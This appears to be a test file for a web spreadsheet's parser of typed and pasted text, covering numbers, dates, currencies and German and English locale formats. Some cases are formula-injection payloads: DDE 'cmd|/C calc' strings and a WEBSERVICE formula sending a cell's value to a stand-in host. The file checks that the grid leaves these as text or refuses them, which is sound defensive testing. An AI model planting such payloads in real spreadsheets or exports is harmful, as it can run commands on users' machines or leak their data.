/** How typed and pasted text is read, in English and by the system's or the copying program's settings. */
import { copiedFormat, englishFormat, systemFormat } from "../../../src/browser-workbook/paste/locale-format";
import { readPlainTable } from "../../../src/browser-workbook/paste/plain-table";
import { inspectFormula, problemIn } from "../../../src/formula/grid-check";
import { readTypedText } from "../../../src/browser-workbook/paste/typed-text";

test.each([
  ["1234", 1234, undefined],
  ["-3.5", -3.5, undefined],
  ["1,234.50", 1234.5, "#,##0.00"],
  ["1,234", 1234, "#,##0"],
  ["5%", 0.05, "0%"],
  ["12.5 %", 0.125, "0.0%"],
  ["$1,234.50", 1234.5, '"$"#,##0.00'],
  ["(3)", -3, undefined],
  ["$(1,234.50)", -1234.5, '"$"#,##0.00'],
  ["($3)", -3, '"$"#,##0'],
  // A German writes the currency after the amount, and reads it there.
  ["1.99 €", 1.99, '#,##0.00 "€"'],
  ["-12€", -12, '#,##0 "€"'],
  ["(5%)", -0.05, "0%"],
  ["1E+3", 1000, undefined],
  ["2026-11-20", 46346, "yyyy-mm-dd"],
  ["2026-11-20 12:00", 46346.5, "yyyy-mm-dd hh:mm"],
  ["11/20/2026", 46346, "m/d/yyyy"],
  ["true", true, undefined],
])("%s is taken for a value", (text, value, numberFormat) => {
  expect(readTypedText(text)).toEqual({ value, ...(numberFormat !== undefined && { numberFormat }) });
});

test.each([
  "00012345678905",
  "1234567890123456",
  "1,2",
  "1-2",
  "20/13/2026",
  "2026-02-30",
  "2026-11-20 25:99",
  "2026-11-20 12:60",
  "12(3)",
  "(555)1234567",
  "(1)(2)",
  "12a",
  "=",
  "-",
  "1.2.3",
  "#N/A",
])("%s stays text", (text) => {
  expect(readTypedText(text)).toEqual({ value: text });
});

test.each([`$${" ".repeat(400)}x`, `0.${"1".repeat(63)}`])(
  "text that is longer than any number stays text: %s",
  (text) => {
    expect(readTypedText(text)).toEqual({ value: text });
  },
);

test("orders day and month as the system does, except in dates with points", () => {
  const dayFirst = { ...englishFormat, dayFirst: true };
  expect(readTypedText("05/11/2026", dayFirst)).toEqual({ value: 46331, numberFormat: "dd/mm/yyyy" });
  expect(readTypedText("05/11/2026 18:00", englishFormat).value).toBe(46153.75);
  expect(readTypedText("05.11.2026", englishFormat).value).toBe(46331);
});

test.each(["=B3*2", " =SUM(A1:A9)"])("%s is a formula", (text) => {
  expect(readTypedText(text)).toEqual({ value: text.trim(), isFormula: true });
});

test.each(["+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(cmd|'/c calc'!A0)"])("%s stays text", (text) => {
  expect(readTypedText(text)).toEqual({ value: text });
});

// The workbook in these tests has no sheet and no name.
const nowhere = { isFunction: () => true, formulaOf: () => null, sizeOf: () => null, alike: () => null };

test.each([
  '=IMAGE("http://x/a.png")',
  ' =WEBSERVICE("http://x/"&A1)',
  "=SUM(cmd|'/c calc'!A0)",
  "=[1]Plan!A1",
])("%s reaches outside the workbook, so the grid refuses the formula", (text) => {
  const { value, isFormula } = readTypedText(text);
  expect(isFormula).toBe(true);
  expect(problemIn(inspectFormula(String(value)), nowhere)).not.toBeNull();
});

test.each([
  ["1.234,50", 1234.5],
  ["1,234", 1.234],
  ["1.234", 1234],
  ["0,5", 0.5],
  ["12,5 %", 0.125],
  ["20.11.2026", 46346],
  // These are numbers in English, and not numbers in German.
  ["1,234.50", 1234.5],
  ["1.5", 1.5],
  ["00012345678905", "00012345678905"],
])("%s is read as a German system reads it", (text, value) => {
  expect(readTypedText(text, systemFormat("de-DE")).value).toBe(value);
});

test("reads only English numbers on an English system", () => {
  expect(systemFormat("en-US")).toEqual({ ...englishFormat, otherwise: englishFormat });
  expect(readTypedText("0,5", systemFormat("en-US")).value).toBe("0,5");
});

test("marks pasted #### and 1.23E+13 as cut off", () => {
  const rows = [...readPlainTable("########\t1.23457E+13\r\n-1,2E+05\t1E+3", englishFormat)];
  expect(rows.map((row) => row.map(({ isCutOff }) => isCutOff === true))).toEqual([
    [true, true],
    [true, false],
  ]);
});

test.each([
  [String.raw`"\,"`, String.raw`"\."`, { decimal: ",", thousands: "." }, "1.234,50"],
  [String.raw`"\,"`, String.raw`"\00a0"`, { decimal: ",", thousands: "\u00a0" }, "1\u00a0234,50"],
  [`"\\."`, `"’"`, { decimal: ".", thousands: "’" }, null],
])("reads a copy by Excel's separators %s and %s", (decimal, thousands, expected, text) => {
  const html = `<style>table\n\t{mso-displayed-decimal-separator:${decimal};\n\tmso-displayed-thousand-separator:${thousands};}</style>`;
  const format = copiedFormat(html);
  expect(format).toMatchObject(expected);
  if (text !== null) expect(readTypedText(text, format).value).toBe(1234.5);
  // A German 1.234 under an English browser is 1234, and no English number is tried.
  if (thousands === String.raw`"\."`) expect(readTypedText("1.5", format).value).toBe("1.5");
  expect(copiedFormat("<table></table>")).toEqual(systemFormat());
});
